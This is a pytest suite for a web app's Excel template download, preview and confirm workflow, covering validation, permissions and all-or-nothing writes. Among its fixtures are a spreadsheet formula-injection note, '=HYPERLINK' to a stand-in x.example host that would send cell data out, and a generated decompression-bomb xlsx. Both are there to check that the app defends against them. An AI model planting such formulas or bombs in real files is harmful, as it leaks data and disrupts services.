"""Excel round-trip: template from the catalog, preview with per-cell errors, nothing written until
confirmed, confirm writes new versions (all or nothing)."""

from __future__ import annotations

import io
import re
from collections.abc import Callable
from pathlib import Path

from fastapi.testclient import TestClient
from openpyxl import load_workbook
from sqlalchemy import func, select
from websupport import Site

from liangshan.store.db import session_scope
from liangshan.store.models import Submission, Unit

Clients = Callable[[str], tuple[TestClient, str]]
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def unit_id(url: str, name: str) -> int:
    with session_scope(url) as s:
        return int(s.scalars(select(Unit.id).where(Unit.region_code == "411224", Unit.name == name)).one())


def n_subs(url: str) -> int:
    with session_scope(url) as s:
        return int(s.scalar(select(func.count()).select_from(Submission)) or 0)


def template(c: TestClient, url: str, unit: str = "财政局") -> bytes:
    r = c.get("/excel/template", params={"unit": unit_id(url, unit)})
    assert r.status_code == 200 and r.headers["content-type"] == XLSX
    assert "filename*=UTF-8''" in r.headers["content-disposition"]
    return r.content


def fill(data: bytes, values: dict[tuple[str, int], object]) -> bytes:
    wb = load_workbook(io.BytesIO(data))
    ws = wb["填报"]
    for row in ws.iter_rows(min_row=2):
        key = (row[1].value, row[3].value)
        if key in values:
            row[4].value = values[key]
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


def preview(c: TestClient, token: str, data: bytes, name: str = "财政局.xlsx") -> TestClient:
    return c.post("/excel/preview", files={"file": (name, data, XLSX)}, data={"csrf_token": token})  # type: ignore[return-value]


def test_template_is_built_from_the_catalog(site: Site, client_for: Clients) -> None:
    c, _ = client_for("office")
    wb = load_workbook(io.BytesIO(template(c, site.url)))
    assert wb.sheetnames == ["填报", "说明"]
    ws = wb["填报"]
    assert [x.value for x in ws[1]] == [
        "地区代码",
        "代码",
        "名称",
        "年份",
        "数值",
        "单位",
        "备注",
        "当前状态",
    ]
    codes = {r[1].value for r in ws.iter_rows(min_row=2)}
    # market_issued (发改委 leads, 财政局 cooperates) is not in 财政局's template: 财政局 contributes parts
    assert codes == {"eco_compensation_revenue", "fiscal_revenue", "eco_env_investment"}
    assert ws.max_row == 1 + 3 * 3
    assert ws.protection.sheet is True
    assert ws["A2"].protection.locked and not ws["E2"].protection.locked and not ws["G2"].protection.locked
    kinds = {dv.type for dv in ws.data_validations.dataValidation}
    assert kinds == {"decimal"}  # all of 财政局's own elements are numbers
    ndrc = load_workbook(io.BytesIO(template(c, site.url, "发改委")))["填报"]
    assert "list" in {dv.type for dv in ndrc.data_validations.dataValidation}  # 是/否 of market_issued
    approved = [r for r in ws.iter_rows(min_row=2) if r[1].value == "fiscal_revenue"]
    assert approved[0][4].value == 172000 and approved[0][7].value == "已审核（锁定）"
    assert "填报截止日期：2026-12-31" in [r[0].value for r in wb["说明"].iter_rows()]


def test_preview_confirm_round_trip(site: Site, client_for: Clients) -> None:
    c, token = client_for("office")
    data = fill(template(c, site.url), {("eco_env_investment", y): v for y, v in
                                        ((2023, 45000), (2024, 48000), (2025, 52000))})  # fmt: skip
    before = n_subs(site.url)
    r = preview(c, token, data)
    assert r.status_code == 200 and "检查通过" in r.text and "3 行将写入" in r.text
    assert n_subs(site.url) == before  # nothing written by the preview
    api = c.post(
        "/api/excel/preview", files={"file": ("a.xlsx", data, XLSX)}, headers={"X-CSRF-Token": token}
    )
    plan = api.json()
    assert plan["ok"] and plan["to_write"] == 3
    assert sorted(x["change"] for x in plan["rows"]).count("unchanged") == 6
    tok = re.search(r'name="token" value="([^"]+)"', r.text)
    assert tok
    done = c.post("/excel/confirm", data={"token": tok.group(1), "csrf_token": token}, follow_redirects=False)
    assert done.status_code == 303
    assert n_subs(site.url) == before + 3
    with session_scope(site.url) as s:
        rows = s.scalars(select(Submission).where(Submission.item_code == "eco_env_investment")).all()
        assert sorted((x.year, x.value, x.status, x.created_by) for x in rows) == [
            (2023, 45000.0, "submitted", "office"),
            (2024, 48000.0, "submitted", "office"),
            (2025, 52000.0, "submitted", "office"),
        ]
    again = c.post("/excel/confirm", data={"token": tok.group(1), "csrf_token": token})
    assert again.status_code == 400 and "已过期或已确认" in again.text
    # the API confirm of the earlier API preview now finds newer versions: refused, nothing written
    r2 = c.post("/api/excel/confirm", json={"token": plan["token"]}, headers={"X-CSRF-Token": token})
    assert r2.status_code == 400 and "已被他人更新" in r2.json()["detail"]
    assert n_subs(site.url) == before + 3


def test_preview_shows_every_bad_cell_and_writes_nothing(site: Site, client_for: Clients) -> None:
    c, token = client_for("office")
    data = fill(template(c, site.url), {
        ("eco_env_investment", 2023): "abc",
        ("eco_env_investment", 2024): -5,
        ("fiscal_revenue", 2023): 1,  # approved and locked
    })  # fmt: skip
    before = n_subs(site.url)
    r = preview(c, token, data)
    assert r.status_code == 422 and "未写入任何数据" in r.text
    api = c.post(
        "/api/excel/preview", files={"file": ("a.xlsx", data, XLSX)}, headers={"X-CSRF-Token": token}
    )
    errs = {(e["row"], e["column"]): e["message"] for e in api.json()["errors"]}
    wb = load_workbook(io.BytesIO(data))
    line = {(r[1].value, r[3].value): i for i, r in enumerate(wb["填报"].iter_rows(min_row=2), start=2)}
    assert "应为数值" in errs[(line[("eco_env_investment", 2023)], "数值")]
    assert "不能为负数" in errs[(line[("eco_env_investment", 2024)], "数值")]
    ndrc = fill(template(c, site.url, "发改委"), {("market_issued", 2025): "也许"})
    api2 = c.post(
        "/api/excel/preview", files={"file": ("b.xlsx", ndrc, XLSX)}, headers={"X-CSRF-Token": token}
    )
    assert [e["message"] for e in api2.json()["errors"] if "是/否" in e["message"]], api2.json()
    assert api.json()["token"] is None
    assert n_subs(site.url) == before


def test_import_refuses_other_regions_and_non_office(site: Site, client_for: Clients) -> None:
    c, token = client_for("office")
    data = template(c, site.url)
    wb = load_workbook(io.BytesIO(data))
    ws = wb["填报"]
    ws["A2"].value, ws["E2"].value = "900001", 1
    out = io.BytesIO()
    wb.save(out)
    api = c.post("/api/excel/preview", files={"file": ("a.xlsx", out.getvalue(), XLSX)},
                 headers={"X-CSRF-Token": token})  # fmt: skip
    assert any("无权导入地区 900001" in e["message"] for e in api.json()["errors"])
    u, tu = client_for("leader")  # read-only roles may not import (units may: their own rows)
    r = u.post("/api/excel/preview", files={"file": ("a.xlsx", data, XLSX)}, headers={"X-CSRF-Token": tu})
    assert r.status_code == 403 and "责任单位" in r.json()["detail"]
    r = c.post(
        "/api/excel/preview", files={"file": ("a.xlsx", b"%PDF-1.4 x", XLSX)}, headers={"X-CSRF-Token": token}
    )
    assert r.status_code == 415 and "只接受 Excel 表格" in r.json()["detail"]


def test_template_writes_formula_like_notes_as_text(site: Site, client_for: Clients) -> None:
    from liangshan.store.submissions import submit_value

    with session_scope(site.url) as s:
        submit_value(s, region="411224", item="eco_env_investment", year=2023, value=45000.0, user="u07",
                     note='=HYPERLINK("http://x.example/?"&A1,"点击")')  # fmt: skip
    c, _ = client_for("office")
    ws = load_workbook(io.BytesIO(template(c, site.url)))["填报"]
    row = next(r for r in ws.iter_rows(min_row=2) if (r[1].value, r[3].value) == ("eco_env_investment", 2023))
    assert row[6].value.startswith("=HYPERLINK") and row[6].data_type == "s" and row[6].quotePrefix
    assert row[4].value == 45000 and row[4].data_type == "n"


def _with_cached_formula(data: bytes, cell: str, formula: str, cached: str) -> bytes:
    """The workbook with ``cell`` holding ``formula`` and Excel's cached result ``cached`` (openpyxl
    itself cannot write a cached value)."""
    import zipfile

    wb = load_workbook(io.BytesIO(data))
    wb["填报"][cell].value = f"={formula}"
    tmp = io.BytesIO()
    wb.save(tmp)
    src = zipfile.ZipFile(tmp)
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        for info in src.infolist():
            raw = src.read(info.filename)
            if info.filename == "xl/worksheets/sheet1.xml":
                old = f"<f>{formula}</f><v></v>".encode()
                assert old in raw
                raw = raw.replace(old, f"<f>{formula}</f><v>{cached}</v>".encode())
            z.writestr(info, raw)
    return out.getvalue()


def test_preview_keeps_cached_formula_values(site: Site, client_for: Clients) -> None:
    c, token = client_for("office")
    data = template(c, site.url)
    wb = load_workbook(io.BytesIO(data))
    line = next(i for i, r in enumerate(wb["填报"].iter_rows(min_row=2), start=2)
                if (r[1].value, r[3].value) == ("eco_env_investment", 2024))  # fmt: skip
    data = _with_cached_formula(data, f"E{line}", "40000+8000", "48000")
    files = {"file": ("a.xlsx", data, XLSX)}
    api = c.post("/api/excel/preview", files=files, headers={"X-CSRF-Token": token})
    plan = api.json()
    assert plan["ok"], plan["errors"]
    assert [(r["item"], r["year"], r["value"]) for r in plan["rows"] if r["change"] != "unchanged"] == [
        ("eco_env_investment", 2024, 48000.0)
    ]


def test_preview_refuses_xlsx_bomb_naming_the_file(site: Site, client_for: Clients, tmp_path: Path) -> None:
    import time
    import zipfile

    c, token = client_for("office")
    src = zipfile.ZipFile(io.BytesIO(template(c, site.url)))
    head, tail = src.read("xl/worksheets/sheet1.xml").split(b"</sheetData>")
    chunk = (b'<row><c t="inlineStr"><is><t>' + b"x" * 200 + b"</t></is></c></row>") * 4000
    bomb = tmp_path / "bomb.xlsx"
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as out:
        for info in src.infolist():
            if info.filename != "xl/worksheets/sheet1.xml":
                out.writestr(info.filename, src.read(info.filename))
                continue
            with out.open(info.filename, "w", force_zip64=True) as fh:
                fh.write(head)
                for _ in range(200 * 1024 * 1024 // len(chunk)):
                    fh.write(chunk)
                fh.write(b"</sheetData>" + tail)
    data = bomb.read_bytes()
    assert len(data) < 1024 * 1024
    before = n_subs(site.url)
    t0 = time.monotonic()
    api = c.post("/api/excel/preview", files={"file": ("财政局填报.xlsx", data, XLSX)},
                 headers={"X-CSRF-Token": token})  # fmt: skip
    assert time.monotonic() - t0 < 5.0
    body = api.json()
    assert not body["ok"] and body["token"] is None
    message = body["errors"][0]["message"]
    assert "财政局填报.xlsx" in message and "压缩炸弹" in message
    assert n_subs(site.url) == before


def test_preview_refuses_non_finite_and_ambiguous_numbers(site: Site, client_for: Clients) -> None:
    """The rows `liangshan import` refuses (1e400, NaN, inf, 12,5) are refused the same way here: every cell
    named by row and column, nothing written."""
    c, token = client_for("office")
    bad = {2023: "1e400", 2024: "NaN", 2025: "inf"}
    ambiguous = ("eco_compensation_revenue", 2025)
    data = fill(
        template(c, site.url), {("eco_env_investment", y): v for y, v in bad.items()} | {ambiguous: "12,5"}
    )
    before = n_subs(site.url)
    api = c.post(
        "/api/excel/preview", files={"file": ("a.xlsx", data, XLSX)}, headers={"X-CSRF-Token": token}
    )
    assert api.json()["ok"] is False and api.json()["token"] is None, api.text
    page = preview(c, token, data)
    assert "1e400" in page.text and "12,5" in page.text  # the page lists the same refusals
    errs = {(e["row"], e["column"]): e["message"] for e in api.json()["errors"]}
    wb = load_workbook(io.BytesIO(data))
    line = {(r[1].value, r[3].value): i for i, r in enumerate(wb["填报"].iter_rows(min_row=2), start=2)}
    for year in bad:
        assert "有限数值" in errs[(line[("eco_env_investment", year)], "数值")], errs
    assert "12,5" in errs[(line[ambiguous], "数值")], errs
    assert n_subs(site.url) == before


def _edit(data: bytes, edits: dict[tuple[str, int], dict[int, object]]) -> bytes:
    """The workbook with cells of the rows keyed (code, year) replaced: {column index (0 = A): value}."""
    wb = load_workbook(io.BytesIO(data))
    ws = wb["填报"]
    for row in ws.iter_rows(min_row=2):
        for col, value in edits.get((row[1].value, row[3].value), {}).items():
            row[col].value = value
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


def _lines(data: bytes) -> dict[tuple[str, int], int]:
    wb = load_workbook(io.BytesIO(data))
    return {(r[1].value, r[3].value): i for i, r in enumerate(wb["填报"].iter_rows(min_row=2), start=2)}


def test_preview_lists_every_kind_of_error_at_once(site: Site, client_for: Clients) -> None:
    """Number format, range, an approved (locked) value, an unknown element, a year outside the round
    and an element the unit may not enter: all in one preview, each with worksheet, row, column letter
    and cell; a row with two bad cells lists both; nothing written."""
    c, token = client_for("u07")  # 财政局
    data = c.get("/excel/template", params={"unit": unit_id(site.url, "财政局")}).content
    line = _lines(data)
    data = _edit(data, {
        ("eco_env_investment", 2023): {4: "abc"},               # format
        ("eco_env_investment", 2024): {4: -5},                  # range
        ("fiscal_revenue", 2023): {4: 1},                       # approved, locked
        ("fiscal_revenue", 2024): {1: "no_such_element", 4: 1}, # unknown element
        ("fiscal_revenue", 2025): {3: 2019, 4: "也许"},         # year outside the round + bad number
        ("eco_compensation_revenue", 2025): {1: "gdp", 4: 100},  # 统计局's element
    })  # fmt: skip
    before = n_subs(site.url)
    api = c.post(
        "/api/excel/preview", files={"file": ("a.xlsx", data, XLSX)}, headers={"X-CSRF-Token": token}
    )
    body = api.json()
    assert api.status_code == 200 and body["ok"] is False and body["token"] is None, body
    errs = {e["cell"]: e for e in body["errors"]}
    assert {e["sheet"] for e in body["errors"]} == {"填报"}
    fmt = errs[f"E{line[('eco_env_investment', 2023)]}"]
    assert "应为数值" in fmt["message"] and fmt["column"] == "数值" and fmt["column_letter"] == "E"
    assert "不能为负数" in errs[f"E{line[('eco_env_investment', 2024)]}"]["message"]
    assert "已审核通过并锁定" in errs[f"E{line[('fiscal_revenue', 2023)]}"]["message"]
    unknown = errs[f"B{line[('fiscal_revenue', 2024)]}"]
    assert "未知指标或数据元素“no_such_element”" in unknown["message"] and unknown["column"] == "代码"
    year_row = line[("fiscal_revenue", 2025)]
    assert "2019 不在评估批次年份" in errs[f"D{year_row}"]["message"]
    assert "应为数值" in errs[f"E{year_row}"]["message"]  # the same row's other bad cell, in the same pass
    denied = errs[f"B{line[('eco_compensation_revenue', 2025)]}"]
    assert "财政局" in denied["message"] and denied["row"] == line[("eco_compensation_revenue", 2025)]
    assert len(body["errors"]) == 7, [(e["cell"], e["message"]) for e in body["errors"]]
    page = preview(c, token, data)
    assert page.status_code == 422 and "发现 7 处错误" in page.text and "未写入任何数据" in page.text
    assert f"E{line[('eco_env_investment', 2023)]}" in page.text and "（E 列）" in page.text
    assert n_subs(site.url) == before


def test_unit_downloads_its_own_template_only(site: Site, client_for: Clients) -> None:
    u, _ = client_for("u07")  # 财政局
    page = u.get("/excel")
    assert page.status_code == 200 and "下载本单位填报模板" in page.text
    own, stats = unit_id(site.url, "财政局"), unit_id(site.url, "统计局")
    assert [x["name"] for x in u.get("/api/excel").json()["units"]] == ["财政局"]
    assert f"unit={own}" in page.text and f"unit={stats}" not in page.text
    r = u.get("/excel/template", params={"unit": own})
    assert r.status_code == 200 and r.headers["content-type"] == XLSX
    assert {row[1].value for row in load_workbook(io.BytesIO(r.content))["填报"].iter_rows(min_row=2)} == {
        "eco_compensation_revenue", "fiscal_revenue", "eco_env_investment"
    }  # fmt: skip
    other = u.get("/excel/template", params={"unit": stats})
    assert other.status_code == 403 and "只能下载本单位（财政局）的填报模板" in other.text
    api = u.get("/api/excel/template", params={"unit": stats})
    assert api.status_code == 403 and "只能下载本单位" in api.json()["detail"]
    office, _ = client_for("office")
    assert office.get("/excel/template", params={"unit": stats}).status_code == 200


def test_unit_upload_confirm_writes_pending_values_under_its_name(site: Site, client_for: Clients) -> None:
    u, token = client_for("u07")
    data = fill(u.get("/excel/template", params={"unit": unit_id(site.url, "财政局")}).content,
                {("eco_env_investment", 2023): 45000, ("eco_env_investment", 2024): 48000})  # fmt: skip
    r = preview(u, token, data)
    assert r.status_code == 200 and "2 行将写入" in r.text
    tok = re.search(r'name="token" value="([^"]+)"', r.text)
    assert tok
    done = u.post("/excel/confirm", data={"token": tok.group(1), "csrf_token": token}, follow_redirects=False)
    assert done.status_code == 303 and done.headers["location"].startswith("/entry")
    with session_scope(site.url) as s:
        rows = s.scalars(select(Submission).where(Submission.item_code == "eco_env_investment")).all()
        assert sorted((x.year, x.value, x.status, x.created_by) for x in rows) == [
            (2023, 45000.0, "submitted", "u07"),
            (2024, 48000.0, "submitted", "u07"),
        ]
    office, _ = client_for("office")
    queue = office.get("/review", params={"tab": "pending"}).text
    assert "财政局（责任单位）" in queue and ">u07<" not in queue and "u07<br>" not in queue
